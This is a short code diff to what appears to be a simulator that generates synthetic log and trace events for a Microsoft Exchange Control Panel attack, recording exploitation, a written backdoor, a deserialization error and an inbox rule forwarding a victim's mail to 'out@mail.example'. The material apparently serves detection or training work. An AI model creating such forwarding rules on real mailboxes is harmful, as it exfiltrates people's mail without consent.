@@ -601,6 +601,7 @@ def pt_token(host, t, who, success=True):
         act = ecp(host, t + 1400, "New-InboxRule.ForwardTo='out@mail.example'.Name='r'.Mailbox='%s'"
                   % victim, "/ecp/%s/RulesEditor/InboxRules.svc/NewObject" % victim)
         host.trace("ecp", t + 1400, PT, "entry", "exploited", act, who.name)
+        host.trace("hp-ecp", t + 1500, PT, "loss", "bounds", rid, who.name, loose=True)
         host.trace("ecp", t + 1400, PT, "backdoor", "written", act, who.name, loose=True,
                    general=True)
         host.trace("ecp", t + 1400, PT, "action", "seen", act, who.name, loose=True,
@@ -668,7 +669,8 @@ def vs_request(host, t, who, child=False, status=500, user="d.falk"):
     if status == 500:
         world.application(host, t + 100, "MSExchange Control Panel", 4, [
             account, "https://%s:444/ecp/default.aspx%s" % (host.fqdn, query.replace(
-                "?", "?x=1&")), "System.Web.HttpUnhandledException: Exception of type"],
+                "?", "?x=1&")), "System.Web.HttpUnhandledException: Exception of type" + (
+                " ---> System.ArgumentException: The serialized data is invalid." if child else "")],
             level=2, mark="A" + who.name)
         host.trace("application", t + 100, C0688, "entry", "attempted", "A" + who.name, who.name,
                    accept=("reached",))
